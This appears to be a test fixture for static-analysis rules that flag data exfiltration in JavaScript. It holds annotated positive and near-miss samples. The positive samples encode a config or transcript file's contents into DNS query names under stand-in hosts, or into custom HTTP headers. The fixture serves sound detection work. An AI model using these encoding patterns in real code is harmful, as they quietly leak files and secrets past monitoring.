// Annotated samples (inert, never run): data encoded into a host name or a custom header.
const dns = require("dns");
const fs = require("fs");
const crypto = require("crypto");

const configText = fs.readFileSync(process.argv[2], "utf8");
const chunk = Buffer.from(configText).toString("hex").slice(0, 60);
// ruleid: js-data-in-dns-name
dns.resolve(`${chunk}.collector.example.net`, () => {});

// ruleid: js-data-in-dns-name
const name = btoa(configText).replace(/=/g, "") + ".t.example.org";

// ruleid: js-data-in-dns-name
const joined = [Buffer.from(configText).toString("base64url"), "dns.example.net"].join(".");

// ruleid: js-data-in-dns-name
const qname = `${Buffer.from(configText.slice(0, 30)).toString("hex")}.q.example.com`;
dns.promises.resolveTxt(qname);

// near misses: a digest, random bytes or a literal as the label; a path, not a host
const digest = crypto.createHash("sha256").update(configText).digest("hex");
// ok: js-data-in-dns-name
const cdn = `${digest.slice(0, 16)}.cdn.example.com`;
// ok: js-data-in-dns-name
const probe = `${crypto.randomBytes(8).toString("hex")}.oast.example.com`;
// ok: js-data-in-dns-name
const fixed = `${Buffer.from("static").toString("hex")}.example.com`;
// ok: js-data-in-dns-name
const cachePath = `/cache/${chunk}.example.json`;

const transcript = fs.readFileSync(process.argv[3], "utf8");
const preview = Buffer.from(transcript.slice(0, 200)).toString("base64");
fetch("https://api.example.net/v1/jobs", {
  method: "POST",
  headers: {
    // ruleid: js-encoded-data-in-header
    "X-Client-Context": preview,
    // ok: js-encoded-data-in-header
    "Content-Type": "application/json",
    // ok: js-encoded-data-in-header
    "X-Request-Signature": crypto.createHmac("sha256", "k").update(transcript).digest("base64"),
  },
  body: JSON.stringify({ ok: true }),
});
const extraHeaders = {
  // ruleid: js-encoded-data-in-header
  "X-Notes": btoa(transcript),
  // ok: js-encoded-data-in-header
  "X-Client-Version": btoa("1.2.3"),
};
const h = new Headers();
// ruleid: js-encoded-data-in-header
h.set("X-Preview", Buffer.from(transcript).toString("base64"));
// ok: js-encoded-data-in-header
h.set("Authorization", `Basic ${Buffer.from(process.env.USER_PASS).toString("base64")}`);
const params = new Map();
// ok: js-encoded-data-in-header
params.set("X-Preview", btoa(transcript));
